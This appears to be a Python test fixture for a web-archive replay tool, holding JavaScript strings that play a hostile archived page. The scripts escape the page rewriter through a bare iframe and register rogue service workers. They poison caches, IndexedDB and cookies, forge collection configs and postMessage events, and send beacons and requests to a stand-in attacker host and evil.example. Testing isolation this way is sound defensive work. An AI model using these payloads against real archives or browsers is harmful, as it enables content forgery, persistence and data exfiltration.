"""What an archived page tries to do to the others (`test_archived_pages.py`): one script with many attempts."""

ATTACK = """
async ({ attack, attacker, stamp, victim }) => {
  // Inserted in a way that the rewriting script does not see, so the frame has the browser's own functions.
  const range = document.createRange();
  range.selectNodeContents(document.body);
  range.insertNode(document.createElement("iframe"));
  const bare = window[window.length - 1];
  if (!/native code/.test(bare.ServiceWorkerContainer.prototype.register)) throw new Error("not native");
  const { caches, fetch, indexedDB, localStorage } = bare;
  const workers = Object.getOwnPropertyDescriptor(Navigator.prototype, "serviceWorker").get.call(navigator);
  const register = bare.ServiceWorkerContainer.prototype.register.bind(workers);
  const registration = await workers.getRegistration("/");
  const forged = `<h1>FORGED</h1><script>document.write("FORGED"); new Image().src = "${attacker}/exfil";`
    + "</" + "script>";
  const extraConfig = {
    prefix: "", isLive: false, archivePrefix: "/all/", archiveMod: "id_",
    csp: "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'",
    injectScripts: ["x'></" + "script>" + forged + "<script src='"],
  };
  const live = { ...extraConfig, prefix: attacker + "/", isLive: true };
  const config = (extraConfig) => ({ sourceUrl: "proxy:", extraConfig, metadata: {}, ctime: 1 });
  const post = (message) => {
    for (const worker of [workers.controller, registration.active]) worker.postMessage(message);
    const channel = new MessageChannel();
    registration.active.postMessage(message, [channel.port1]);
  };
  const open = (version, change) => new Promise((yes, no) => {
    const request = indexedDB.open("collDB", version);
    request.onupgradeneeded = () => {
      const names = request.result.objectStoreNames;
      if (!names.contains("colls")) request.result.createObjectStore("colls", { keyPath: "name" });
      if (!names.contains("settings")) request.result.createObjectStore("settings");
    };
    request.onerror = () => no(request.error);
    request.onsuccess = () => {
      const change_ = request.result.transaction(["colls"], "readwrite");
      change(change_.objectStore("colls"));
      change_.oncomplete = () => { request.result.close(); yes(); };
    };
  });
  const put = (store) => {
    for (const [name, extra] of [["all", extraConfig], ["-", live], ["static", live], ["sw.js", live]]) {
      store.put({ name, type: "live", config: config(extra) });
    }
  };
  const page = `/all/${stamp}mp_/${victim}/`;
  const made = (type) => new Response(forged, { headers: { "Content-Type": type } });
  const attempts = {
    async addColl() {
      for (const [name, extra] of [["all", extraConfig], ["-", live], ["static", live]]) {
        post({ msg_type: "addColl", name, type: "live", skipExisting: false, file: { sourceUrl: "proxy:" },
               extraConfig: extra });
      }
      post({ msg_type: "reload_all" });
      post({ msg_type: "reload", name: "all" });
    },
    async removeColl() {
      post({ msg_type: "removeColl", name: "all" });
      post({ msg_type: "cancelLoad", name: "all" });
      post({ msg_type: "updateMetadata", name: "all", metadata: { title: "FORGED" } });
    },
    async api() {
      const send = (method, path, body) =>
        fetch("/api/" + path, { method, body: body && JSON.stringify(body) }).catch(() => 0);
      await send("POST", "c/create", { metadata: {}, extraConfig });
      await send("POST", "c/all/updateAuth", { headers: { "X-Evil": "1" } });
      await send("POST", "c/all/metadata", { title: "FORGED" });
      await send("DELETE", "c/all");
    },
    async indexedDB() { await open(3, put); post({ msg_type: "reload_all" }); },
    async databaseOfTheFuture() { await open(99, put); },
    async caches() {
      for (const name of ["wabac-offline", "wabac-all"]) {
        const cache = await caches.open(name);
        await cache.put(page, made("text/html"));
        await cache.put(`/all/${stamp}sw_/${victim}/`, made("text/html"));
        await cache.put(`/-/start/all/${stamp}mp_/${victim}/`, made("text/html"));
        for (const path of ["/sw.js", "/-/start.js", "/-/archived_page.js", "/static/wombat.js"]) {
          await cache.put(path, new Response("document.write('FORGED')",
                                             { headers: { "Content-Type": "text/javascript" } }));
        }
      }
    },
    async localStorage() {
      for (const value of ["1", "2"]) localStorage.setItem("collection all", value);
    },
    async forTheVictim() {
      for (const name of ["words", victim + "/words"]) localStorage.setItem(name, "FORGED");
      await new Promise((resolve) => {
        const request = indexedDB.open(`wb-${victim}-drafts`, 1);
        request.onupgradeneeded = () => request.result.createObjectStore("drafts").put("FORGED", "words");
        request.onsuccess = () => { request.result.close(); resolve(); };
      });
      const parent = location.hostname.slice(location.hostname.indexOf(".") + 1);
      for (const path of ["/", page]) {
        bare.document.cookie = "words=FORGED; path=" + path;
        bare.document.cookie = `words=FORGED; path=${path}; domain=${parent}`;
      }
      for (const name of ["words", `wb-${victim}-words`, victim + "/words"]) {
        const channel = new bare.BroadcastChannel(name);
        setInterval(() => channel.postMessage("FORGED"), 10);
      }
    },
    async query() {
      const query = "?replayPrefix=&allowCache=1&root=all&serveIndex=1&allowProxyPassthrough=1&allowProxyPaths="
        + attacker + "&injectScripts=" + encodeURIComponent(extraConfig.injectScripts[0]);
      await register("/sw.js" + query, { scope: "/" });
      await register("/sw.js?proxyOriginMode=1", { scope: "/" });
    },
    async scopes() {
      for (const scope of [page, `/all/${stamp}mp_/`, "/-/start/", "/all/", "/static/"]) {
        await register("/sw.js?replayPrefix=x", { scope });
      }
    },
    async foreignScript() {
      for (const modifier of ["id_", "sw_", "js_", "mp_", "wkr_"]) {
        await register(`/all/${stamp}${modifier}/http://evil.example/ext.js`, { scope: "/" })
          .then(() => { throw new Error("registered"); }, () => 0);
      }
    },
    async preload() {
      await registration.navigationPreload.enable();
      await registration.navigationPreload.setHeaderValue("x");
    },
    async unregister() {
      for (const one of await workers.getRegistrations()) await one.unregister();
    },
    async live() {
      await bare.fetch(attacker + "/fetch", { mode: "no-cors" }).catch(() => 0);
      new bare.Image().src = attacker + "/image";
      bare.navigator.sendBeacon(attacker + "/beacon", "x");
      bare.document.documentElement.insertAdjacentHTML(
        "beforeend", `<iframe src="${attacker}/frame"></iframe><link rel=preconnect href="${attacker}">`);
      await fetch("/static/proxy/" + attacker + "/proxied").catch(() => 0);
      await fetch(`/-/${stamp}mp_/${attacker}/`).catch(() => 0);
    },
  };
  await attempts[attack]();
  await new Promise((resolve) => setTimeout(resolve, 500));
  return "done";
}
"""
ATTACKS = (
    "addColl",
    "removeColl",
    "api",
    "indexedDB",
    "databaseOfTheFuture",
    "caches",
    "localStorage",
    "forTheVictim",
    "query",
    "scopes",
    "foreignScript",
    "preload",
    "unregister",
    "live",
)

CLAIM = """(victim) => {
  addEventListener("beforeunload", (event) => event.preventDefault());
  setInterval(() => {
    window.parent.postMessage({ ...victim, wb_type: "load", title: "Victim" }, "*");
    window.parent.postMessage({ wb_type: "title", title: "Victim" }, "*");
    window.stop();
  }, 5);
}"""

BARE = """(() => {
  const range = document.createRange();
  range.selectNodeContents(document.body);
  range.insertNode(document.createElement("iframe"));
  return window[window.length - 1];
})()"""
